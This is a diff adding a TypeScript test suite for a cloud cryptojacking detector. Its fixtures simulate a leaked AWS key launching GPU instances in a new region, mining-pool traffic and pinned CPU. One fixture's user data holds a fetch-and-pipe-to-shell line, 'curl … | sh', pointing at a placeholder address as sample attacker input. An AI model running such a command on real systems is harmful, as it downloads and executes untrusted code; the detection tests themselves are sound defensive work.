@@ -1,0 +1,277 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { CloudFacts, CoalEvent, EventAction } from '../model/event.js';
+import type { Finding } from '../model/finding.js';
+import { defaultPolicy, type Policy } from '../model/policy.js';
+import type { Signal, SignalClass, SignalKind, Strength } from '../model/signal.js';
+import { signalFor } from '../signals/make.js';
+import { createDetector } from './index.js';
+
+const T0 = Date.UTC(2026, 10, 20, 3, 0, 0);
+const MIN = 60_000;
+const DAY = 24 * 60 * MIN;
+const ACCOUNT = '123456789012';
+let line = 0;
+
+function ev(ms: number, action: EventAction, fields: Partial<CoalEvent> = {}): CoalEvent {
+  const ts = T0 + ms;
+  return {
+    '@timestamp': new Date(ts).toISOString(),
+    event: { kind: action === 'metric' ? 'metric' : 'event', category: [], action, dataset: 'test' },
+    original: {},
+    coalmine: { ts, format: 'test', ref: { file: 'test.log', line: ++line } },
+    ...fields,
+  };
+}
+
+/** A control-plane call as the CloudTrail reader gives it. */
+function call(
+  ms: number,
+  cloud: Omit<CloudFacts, 'provider' | 'account'>,
+  extra: { ip?: string; ua?: string; failed?: boolean } = {},
+) {
+  const ts = T0 + ms;
+  return ev(ms, 'cloud-change', {
+    event: {
+      kind: 'event',
+      category: ['configuration'],
+      action: 'cloud-change',
+      dataset: 'cloudtrail.test',
+      outcome: extra.failed ? 'failure' : 'success',
+      id: `evt-${line}`,
+    },
+    host: { name: `aws:${ACCOUNT}` },
+    user: { name: cloud.principal?.id },
+    source: extra.ip ? { ip: extra.ip } : undefined,
+    user_agent: extra.ua ? { original: extra.ua } : undefined,
+    cloud: { provider: 'aws', account: { id: ACCOUNT }, region: cloud.region },
+    coalmine: {
+      ts,
+      format: 'cloudtrail',
+      ref: { file: 'trail.json', line: ++line },
+      cloud: { provider: 'aws', account: ACCOUNT, ...cloud },
+    },
+  });
+}
+
+const TERRAFORM = 'arn:aws:sts::123456789012:assumed-role/terraform-deploy/session';
+const LEAKED = 'arn:aws:iam::123456789012:user/ci-backup';
+
+function routine(): CoalEvent[] {
+  const out: CoalEvent[] = [];
+  for (let i = 0; i < 4; i++)
+    out.push(
+      call(
+        -3 * DAY + i * 12 * 60 * MIN,
+        {
+          operation: 'RunInstances',
+          region: 'eu-west-1',
+          principal: { id: TERRAFORM, type: 'AssumedRole' },
+          instanceType: 'm5.large',
+          count: 2,
+          instances: [{ id: `i-0routine${i}a`, type: 'm5.large', privateIps: [`10.0.9.${i * 2 + 1}`] }],
+        },
+        { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
+      ),
+    );
+  // the leaked key had been used before, to read things only
+  out.push(
+    call(
+      -2 * DAY,
+      { operation: 'GetServiceQuota', region: 'eu-west-1', principal: { id: LEAKED, type: 'IAMUser' } },
+      { ip: '198.51.100.20' },
+    ),
+  );
+  return out;
+}
+
+function leakedKeyLaunch(): CoalEvent[] {
+  const instances = Array.from({ length: 20 }, (_, i) => ({
+    id: `i-0miner${String(i).padStart(2, '0')}`,
+    type: 'g4dn.xlarge',
+    privateIps: [`10.20.0.${i + 10}`],
+  }));
+  return [
+    call(
+      0,
+      {
+        operation: 'EnableRegion',
+        region: 'us-east-1',
+        principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
+        resources: [{ type: 'region', name: 'ap-southeast-3' }],
+      },
+      { ip: '203.0.113.77', ua: 'python-requests/2.31.0' },
+    ),
+    call(
+      5 * MIN,
+      {
+        operation: 'RunInstances',
+        region: 'ap-southeast-3',
+        principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
+        instanceType: 'g4dn.xlarge',
+        count: 20,
+        userData: 'curl -s http://203.0.113.9/x.sh | sh',
+        instances,
+      },
+      { ip: '203.0.113.77', ua: 'Boto3/1.34.0 Python/3.11' },
+    ),
+  ];
+}
+
+function poolFlows(): CoalEvent[] {
+  return [0, 1, 2].map((i) =>
+    ev(8 * MIN + i * 1000, 'connect', {
+      source: { ip: `10.20.0.${i + 10}`, port: 40000 + i },
+      destination: { ip: '198.51.100.23', port: 3333 },
+      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3', network_interface: `eni-0${i}` },
+      original: { signal: { kind: 'pool-contact', class: 'network', strength: 'strong' } },
+    }),
+  );
+}
+
+function cpu(id: string, fromMs: number, samples: number, pct: number | ((i: number) => number)): CoalEvent[] {
+  return Array.from({ length: samples }, (_, i) =>
+    ev(fromMs + i * 5 * MIN, 'metric', {
+      host: { name: id },
+      metrics: { cpu_pct: typeof pct === 'number' ? pct : pct(i) },
+      cloud: { provider: 'aws', account: { id: ACCOUNT }, region: 'ap-southeast-3', instance: { id } },
+    }),
+  );
+}
+
+function classify(event: CoalEvent, out: Signal[]): void {
+  const s = event.original.signal as { kind: SignalKind; class: SignalClass; strength: Strength } | undefined;
+  if (s) out.push(signalFor(event, { ...s, by: `test:${s.kind}`, explanation: `${s.kind} (test)` }));
+}
+
+function run(events: CoalEvent[], policy: Policy = defaultPolicy()): Finding[] {
+  const findings: Finding[] = [];
+  const engine = createDetector({ policy, classify, onFinding: (f) => findings.push(f) });
+  for (const e of [...events].sort((a, b) => a.coalmine.ts - b.coalmine.ts)) engine.push(e);
+  engine.end();
+  return findings;
+}
+
+test('a leaked key launching 20 GPU instances in a new region, pool flows from their addresses, CPU pinned from launch: one high AN0744 finding', () => {
+  const findings = run([...routine(), ...leakedKeyLaunch(), ...poolFlows(), ...cpu('i-0miner00', 7 * MIN, 8, 99)]);
+  assert.deepEqual(
+    findings.map((f) => [f.analytic, f.severity]),
+    [['AN0744', 'high']],
+  );
+  const f = findings[0];
+  assert.deepEqual(f.legs, ['resource', 'reach', 'authorization']);
+  assert.equal(f.facts.instance_count, 20);
+  assert.equal(f.facts.principal, LEAKED);
+  assert.equal(f.facts.access_key_id, 'AKIAEXAMPLELEAKED01');
+  assert.equal(f.facts.region, 'ap-southeast-3');
+  assert.deepEqual(f.facts.instance_types, ['g4dn.xlarge']);
+  assert.match(
+    String(f.facts.authorization),
+    /first launch by .*ci-backup.*region ap-southeast-3 first used in the account.*GPU.*EnableRegion/,
+  );
+  assert.ok(f.evidence.some((e) => e.kind === 'sustained-cpu' && /pinned from launch/.test(e.explanation)));
+  assert.match(f.title, /20 instances \(g4dn\.xlarge\) in aws account 123456789012 ap-southeast-3 by/);
+});
+
+test('without flow logs: medium, and the gap names the missing flow and DNS logs', () => {
+  const [f] = run([...routine(), ...leakedKeyLaunch(), ...cpu('i-0miner00', 7 * MIN, 8, 99)]);
+  assert.equal(f.severity, 'medium');
+  assert.deepEqual(f.legs, ['resource', 'authorization']);
+  assert.ok(
+    f.gaps.some((g) => /no flow or DNS logs for aws account 123456789012 ap-southeast-3/.test(g)),
+    f.gaps.join('\n'),
+  );
+});
+
+test('a denied GPU launch alone: low, named as an attempt, with the gaps that would decide it', () => {
+  const denied = call(
+    0,
+    {
+      operation: 'RunInstances',
+      region: 'us-east-1',
+      principal: { id: LEAKED, type: 'IAMUser', accessKeyId: 'AKIAEXAMPLELEAKED01' },
+      instanceType: 'p3.16xlarge',
+      count: 4,
+      errorCode: 'Client.UnauthorizedOperation',
+    },
+    { ip: '203.0.113.77', failed: true },
+  );
+  const [f, ...rest] = run([...routine(), denied]);
+  assert.equal(rest.length, 0);
+  assert.equal(f.severity, 'low');
+  assert.match(f.title, /^Denied cloud launch: an attempt to launch 4 p3\.16xlarge/);
+  assert.equal(f.facts.denied_requests, 1);
+  assert.ok(f.gaps.some((g) => /no instance CPU metrics/.test(g)));
+});
+
+test('routine and service launches under load raise nothing: Terraform, an autoscaling group, a server busy for weeks', () => {
+  const asg = call(DAY, {
+    operation: 'RunInstances',
+    region: 'eu-west-1',
+    principal: {
+      id: 'arn:aws:sts::123456789012:assumed-role/AWSServiceRoleForAutoScaling/AutoScaling',
+      type: 'AssumedRole',
+      invokedBy: 'autoscaling.amazonaws.com',
+    },
+    instanceType: 'c5.2xlarge',
+    count: 6,
+    tags: { 'aws:autoscaling:groupName': 'web-asg' },
+    instances: [{ id: 'i-0asg01', type: 'c5.2xlarge' }],
+  });
+  const terraform = call(
+    DAY + MIN,
+    {
+      operation: 'RunInstances',
+      region: 'eu-west-1',
+      principal: { id: TERRAFORM, type: 'AssumedRole' },
+      instanceType: 'm5.large',
+      count: 2,
+      instances: [{ id: 'i-0tf99', type: 'm5.large' }],
+    },
+    { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
+  );
+  const busyServer = cpu('i-0oldserver', -14 * DAY, 14 * 24 * 12, 90);
+  const findings = run([
+    ...routine(),
+    asg,
+    terraform,
+    ...cpu('i-0asg01', DAY + 2 * MIN, 10, 97),
+    ...cpu('i-0tf99', DAY + 2 * MIN, 10, 97),
+    ...busyServer,
+  ]);
+  assert.deepEqual(
+    findings.map((f) => [f.severity, f.title]),
+    [],
+  );
+});
+
+test('the cloud: policy decides: off the approved path is evidence; the approved path is not', () => {
+  const policy = defaultPolicy();
+  policy.cloud = {
+    principals: ['arn:aws:sts::*:assumed-role/terraform-*'],
+    pipelines: [],
+    services: ['autoscaling.amazonaws.com'],
+    regions: ['eu-west-1'],
+    instanceFamilies: [],
+    tags: {},
+    ref: 'coalmine.yaml:9',
+  };
+  const off = run([...leakedKeyLaunch(), ...poolFlows()], policy);
+  assert.equal(off.length, 1);
+  assert.deepEqual(off[0].legs, ['reach', 'authorization']);
+  assert.match(String(off[0].facts.authorization), /not approved: .*coalmine\.yaml:9/);
+  // a first GPU launch on the approved path, pinned from launch, is the training job it was approved for
+  const training = call(
+    0,
+    {
+      operation: 'RunInstances',
+      region: 'eu-west-1',
+      principal: { id: TERRAFORM, type: 'AssumedRole' },
+      instanceType: 'p4d.24xlarge',
+      count: 8,
+      instances: [{ id: 'i-0train01', type: 'p4d.24xlarge' }],
+    },
+    { ip: '198.51.100.10', ua: 'Terraform/1.7.5' },
+  );
+  assert.deepEqual(run([training, ...cpu('i-0train01', 2 * MIN, 10, 99)], policy), []);
+});
